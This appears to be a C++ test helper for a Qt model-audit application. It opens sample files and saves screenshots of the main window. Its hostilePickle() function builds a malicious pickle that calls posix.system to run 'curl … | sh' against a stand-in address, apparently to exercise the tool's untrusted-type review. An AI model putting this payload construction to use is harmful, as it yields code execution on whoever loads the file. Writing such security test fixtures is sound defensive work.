#include "ui/pictures/photographer.h"

#include "shell/batch_tab.h"
#include "shell/document_page.h"
#include "shell/review_page.h"
#include "tree/node_view.h"
#include "tree/tree_panel.h"
#include "ui/batch_driver.h"

#include <QDir>
#include <QTest>

#include <algorithm>

namespace skops::test {

using namespace ui;

Photographer::Photographer(const QString& folder, Appearance appearance)
    : m_folder(folder), m_appearance(appearance)
{
    applyAppearance(appearance);
}

bool Photographer::take(const QString& name, const QString& path,
                        const std::function<void(MainWindow&)>& prepare)
{
    MainWindow window(m_dialogs);
    window.resize(1240, 780);
    window.show();
    if (!path.isEmpty()) {
        window.openFiles({path});
        const Document& document = window.documentPage()->document();
        if (!waitFor([&] { return document.state() != Document::State::Loading && !document.isBusy(); }))
            return false;
    }
    if (prepare) {
        prepare(window);
        waitFor([&] { return !window.documentPage() || !window.documentPage()->document().isBusy(); });
    }
    QTest::qWait(50);
    return save(window, name);
}

bool Photographer::takeList(const QString& name, const QString& folder,
                            const std::function<void(MainWindow&)>& prepare)
{
    MainWindow window(m_dialogs);
    window.resize(1240, 780);
    window.show();
    window.openFiles({folder});
    if (!waitUntilQuiet(*window.batchTab()))
        return false;
    if (prepare)
        prepare(window);
    const bool isQuiet = waitUntilQuiet(*window.batchTab());
    QTest::qWait(50);
    return isQuiet && save(window, name);
}

bool Photographer::save(QWidget& window, const QString& name) const
{
    // A question or the guide stands in a window of its own.
    const QList<QWidget*> children = window.findChildren<QWidget*>();
    const auto own = std::ranges::find_if(children, [](const QWidget* child) {
        const Qt::WindowType type = child->windowType();
        return child->isVisible() && (type == Qt::Dialog || type == Qt::Window);
    });
    return (own == children.end() ? window : **own)
        .grab()
        .save(QStringLiteral("%1/%2-%3.png").arg(m_folder, name, appearanceId(m_appearance)));
}

QString sample(const QString& name)
{
    return QDir(QStringLiteral(SKOPS_SOURCE_DIR "/resources/samples")).filePath(name);
}

std::string hostilePickle()
{
    const std::string model = import("sklearn.linear_model._logistic", "LogisticRegression") +
                              ")\x81}(S'C'\nF1.0\nS'max_iter'\nI100\nS'_sklearn_version'\nS'1.7.2'\nub";
    const std::string payload = import("posix", "system") + callWith("curl -s http://198.51.100.7/i.sh | sh");
    const std::string helper = import("helpers.warmup", "prepare") + callWith("model");
    const std::string table = import("collections", "OrderedDict") + ")R";
    return "\x80\x02](" + table + model + payload + helper + "e.";
}

void openLevels(MainWindow& window, int levels)
{
    window.documentPage()->reviewPage().tree().view().expandToDepth(levels);
}

void tickAll(MainWindow& window)
{
    std::vector<std::string> names;
    for (const audit::UntrustedType& type : window.documentPage()->document().review()->audit->types())
        names.push_back(type.name);
    window.documentPage()->document().setTicked(names, true);
}

} // namespace skops::test
